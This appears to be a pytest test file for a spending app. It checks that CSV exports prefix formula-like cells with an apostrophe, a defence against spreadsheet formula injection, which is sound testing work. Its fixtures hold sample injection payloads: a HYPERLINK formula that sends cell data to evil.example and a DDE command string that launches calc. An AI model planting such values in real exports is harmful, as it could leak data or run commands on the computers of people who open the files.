"""Finding 6: no export writes a cell a spreadsheet would run as a formula.

The chargeback CSV (downloaded and emailed), the FOCUS export and the explorer export all
write through `spendapp.core.csvfiles`; names that start like a formula get an apostrophe.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from spendapp.allocation.chargeback import chargeback, chargeback_csv, email_team_report
from spendapp.allocation.engine import recompute_allocation
from spendapp.allocation.models import AllocationRule, Team
from spendapp.core.csvfiles import SafeWriter, safe_cell
from spendapp.providers.models import ProviderEntity

pytestmark = pytest.mark.django_db
AUGUST = date(2026, 8, 1)
TEAM = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
PROJECT = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+cmd", "'-1+cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("-12.50", "-12.50"),  # a negative amount stays a number
        ("Search", "Search"),
        (None, ""),
        (42, "42"),
    ],
)
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(value, cell):
    assert safe_cell(value) == cell


def test_the_writer_escapes_every_cell():
    out = io.StringIO()
    SafeWriter(out).writerow(["=A1", "ok"])
    assert out.getvalue() == "'=A1,ok\r\n"


@pytest.fixture
def formula_names(spend_data, accounts):
    team = Team.objects.create(name=TEAM, owner_email="owner@example.com", code="+CC")
    rule = AllocationRule(dimension="project", value="proj_support", team=team)
    rule.valid_from = date(2026, 1, 1)
    rule.full_clean()
    rule.save()
    ProviderEntity.objects.update_or_create(
        account=accounts["openai"],
        kind="project",
        external_id="proj_support",
        defaults={"name": PROJECT},
    )
    recompute_allocation(date(2026, 8, 1), date(2026, 8, 31))
    return team


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str) -> None:
    risky = [
        c for c in _cells(text) if c and (c[0] in "=+@\t\r" or (c[0] == "-" and c[1:2].isalpha()))
    ]
    assert risky == []


def test_the_chargeback_csv_escapes_team_names(formula_names):
    text = chargeback_csv(chargeback(AUGUST))
    assert f"'{TEAM}" in _cells(text)
    _assert_no_formula(text)


def test_the_emailed_chargeback_csv_escapes_team_names(formula_names, mailoutbox):
    assert email_team_report(formula_names.pk, AUGUST)
    ((name, content, _),) = mailoutbox[0].attachments
    assert name.endswith(".csv")
    assert f"'{TEAM}" in _cells(content)
    _assert_no_formula(content)


def test_the_focus_export_escapes_provider_names(formula_names, client, bob):
    client.force_login(bob)
    response = client.get("/allocation/chargeback/?month=2026-08&format=focus")
    text = b"".join(response.streaming_content).decode()
    assert response.status_code == 200
    assert any(cell.startswith(f"'{PROJECT}") or f"'{TEAM}" in cell for cell in _cells(text))
    _assert_no_formula(text)
